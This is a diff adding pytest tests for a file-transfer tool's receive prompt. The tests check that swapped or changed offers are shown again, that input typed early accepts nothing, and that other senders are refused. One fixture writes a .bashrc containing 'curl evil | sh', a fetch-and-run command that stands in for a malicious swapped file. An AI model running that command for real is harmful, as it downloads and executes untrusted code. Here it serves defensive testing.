@@ -1,0 +1,165 @@
+"""What is accepted is what was shown: the question on a real terminal, both sides as shipped."""
+
+from __future__ import annotations
+
+import signal
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from wraith.testing.terminal import TerminalCommand
+from wraith.testing.two_homes import TwoHomes, code_of, finish, signalled
+
+QUESTION = "accept? [y/N/l]: "
+
+Receive = Callable[..., TerminalCommand]
+
+
+@pytest.fixture
+def receive(homes: TwoHomes) -> Iterator[Receive]:
+    """Starts ``wraith receive CODE --out OUT`` on a terminal."""
+    started: list[TerminalCommand] = []
+
+    def start(code: str, *options: str) -> TerminalCommand:
+        command = TerminalCommand(
+            "receive", code, "--out", homes.out, *options, home=homes.work / "home-receiver"
+        )
+        started.append(command)
+        return command
+
+    yield start
+    for command in started:
+        command.close()
+
+
+def _gift(homes: TwoHomes) -> Path:
+    homes.file("gift/holiday.txt", b"nice view")
+    return homes.source / "gift"
+
+
+def _swap(homes: TwoHomes, gift: Path) -> None:
+    """Another listing under the same name."""
+    (gift / "holiday.txt").rename(gift / "holiday2.txt")
+    (gift / ".bashrc").write_bytes(b"curl evil | sh\n")
+
+
+def _files(out: Path) -> list[str]:
+    """What lies in the destination, without the state of unfinished transfers."""
+    paths = [path.relative_to(out) for path in out.rglob("*")]
+    return sorted(str(path) for path in paths if not path.parts[0].startswith(".wraith-"))
+
+
+@pytest.mark.spec("TR-100")
+@pytest.mark.spec("TR-101")
+@pytest.mark.parametrize("answer", ["n", "y"])
+def test_an_offer_that_is_swapped_under_the_question_is_asked_about_again(
+    homes: TwoHomes, receive: Receive, answer: str
+) -> None:
+    gift = _gift(homes)
+    sender = homes.send(gift)
+    code = code_of(sender)
+    receiver = receive(code)
+    receiver.wait_for("1 file")
+    receiver.wait_for("accept?")
+    signalled(sender, signal.SIGTERM)
+    sender.wait_exit()
+    _swap(homes, gift)
+    again = homes.send(gift)
+    assert code_of(again) == code
+    again.wait_event("deciding")
+    # The person has read the first offer, and answers what they believe to be its question.
+    receiver.type("y\n")
+    time.sleep(2.0)
+    assert _files(homes.out) == [], "taken, and never shown"
+    receiver.wait_for("CHANGED", deadline_s=10)
+    receiver.wait_for("2 files")
+    receiver.wait_for(QUESTION)
+    receiver.type("y\n" if answer == "y" else "n\n")
+    assert receiver.wait_exit() == (0 if answer == "y" else 16)
+    expected = ["gift", "gift/.bashrc", "gift/holiday2.txt"] if answer == "y" else []
+    assert _files(homes.out) == expected
+
+
+@pytest.mark.spec("TR-101")
+def test_what_was_typed_before_the_question_answers_nothing(
+    homes: TwoHomes, receive: Receive
+) -> None:
+    gift = _gift(homes)
+    sender = homes.send(gift)
+    code = code_of(sender)
+    sender.kill()
+    receiver = receive(code)
+    time.sleep(1.0)  # it is a process: it has to be there before anything is typed
+    receiver.type("y\n")
+    sender = homes.send(gift)
+    assert code_of(sender) == code
+    receiver.wait_for("accept?")
+    time.sleep(1.0)
+    assert _files(homes.out) == [] and receiver.process.poll() is None, receiver.screen
+    receiver.type("y\n")
+    assert receiver.wait_exit() == 0
+    assert finish(sender) == (0,)
+    assert _files(homes.out) == ["gift", "gift/holiday.txt"]
+
+
+@pytest.mark.parametrize(("typed", "code"), [("\n", 16), ("n\n", 16), ("x\n", None), ("\x04", 16)])
+def test_nothing_but_yes_takes_it(
+    homes: TwoHomes, receive: Receive, typed: str, code: int | None
+) -> None:
+    sender = homes.send(_gift(homes))
+    receiver = receive(code_of(sender))
+    receiver.wait_for(QUESTION)
+    receiver.type(typed)
+    if code is None:  # not understood: the question stands again
+        receiver.wait_for(QUESTION)
+        receiver.type("yes\n")
+        assert receiver.wait_exit() == 0
+        assert _files(homes.out) == ["gift", "gift/holiday.txt"]
+    else:
+        assert receiver.wait_exit() == code
+        assert _files(homes.out) == []
+
+
+@pytest.mark.spec("TR-101")
+def test_with_yes_a_changed_offer_is_taken_and_said(homes: TwoHomes, receive: Receive) -> None:
+    gift = _gift(homes)
+    big = homes.file("gift/big.bin", 4 << 20)
+    sender = homes.send("--limit", "500k", gift)
+    code = code_of(sender)
+    receiver = receive(code, "--yes")
+    receiver.wait_for("2 files")
+    while not sender.wait_event("progress")["bytes_done"]:
+        pass
+    signalled(sender, signal.SIGTERM)
+    sender.wait_exit()
+    _swap(homes, gift)
+    again = homes.send(gift)
+    assert code_of(again) == code
+    said = receiver.wait_for("3 files")
+    assert "CHANGED: it was 2 files" in said
+    assert receiver.wait_exit() == 0
+    names = ["gift", "gift/.bashrc", "gift/big.bin", "gift/holiday2.txt"]
+    assert _files(homes.out) == names
+    assert (homes.out / "gift/big.bin").read_bytes() == big.read_bytes()
+
+
+@pytest.mark.spec("TR-102")
+def test_who_accepted_one_sender_lets_no_other_in(homes: TwoHomes) -> None:
+    path = homes.file("a.bin", 4 << 20)
+    other = homes.file("b.bin", b"another's")
+    receiver = homes.start(
+        *("receive", "--json", "--yes", "--out", str(homes.out), "--listen", "127.0.0.1:0"),
+        home="home-receiver",
+    )
+    code = code_of(receiver)
+    sender = homes.send("--to", "-", "--limit", "500k", path, stdin=code)
+    receiver.wait_event("accepted")
+    signalled(sender, signal.SIGTERM)
+    receiver.wait_event("interrupted")
+    stranger = homes.send("--to", "-", other, home="home-stranger", stdin=code)
+    assert stranger.wait_event("error")["code"] == "busy" and stranger.wait_exit() == 17
+    again = homes.send("--to", "-", path, stdin=code)
+    assert finish(again, receiver) == (0, 0)
+    assert _files(homes.out) == ["a.bin"]
